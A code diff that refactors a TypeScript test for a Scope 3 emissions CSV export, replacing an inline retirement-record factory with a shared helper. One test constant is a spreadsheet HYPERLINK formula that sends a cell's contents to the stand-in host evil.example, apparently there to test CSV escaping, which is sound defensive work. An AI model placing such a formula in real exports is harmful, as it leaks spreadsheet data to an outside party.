@@ -10,33 +10,12 @@ import { loadReferenceTable } from "../../core/calc/reference-file.ts";
 import type { InventoryLine } from "../../core/documents/inventory.ts";
 import { csvCell, scope3Csv } from "../../core/documents/scope3-csv.ts";
 import { scope3Report } from "../../core/documents/scope3.ts";
-import type { RetirementForReport } from "../../core/documents/scope3-types.ts";
+import { ACME, retirementFactory } from "../helpers/scope3-retirements.ts";
 
 const reference = loadReferenceTable();
-const ACME = "0x976EA74026E726554dB657fA54763abd0C3a0aa9";
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")';
 
-function retirement(id: number, over: Partial<RetirementForReport> = {}): RetirementForReport {
-  return {
-    retirementId: String(id),
-    batchId: "1",
-    category: "laptop",
-    amount: 2,
-    reductionKgPerDevice: "34.217",
-    periodStart: "2026-01-01T00:00:00.000Z",
-    periodEnd: "2026-12-31T23:59:59.000Z",
-    scope3Category: 1,
-    beneficiaryName: "Acme",
-    beneficiaryAccount: ACME,
-    retiredBy: ACME,
-    claimStatus: "verified",
-    vintageStart: "2026-01-01",
-    vintageEnd: "2026-03-31",
-    attribution: { account: ACME, name: "Acme", rule: "BENEFICIARY_ACCOUNT", detail: "named" },
-    txHash: "0xfeed",
-    ...over,
-  };
-}
+const retirement = retirementFactory("Acme", { amount: 2, scope3Category: 1, txHash: "0xfeed" });
 
 /** RFC 4180: the rows of one table, each a list of fields (quotes removed, "" unescaped). */
 function parse(table: string): string[][] {
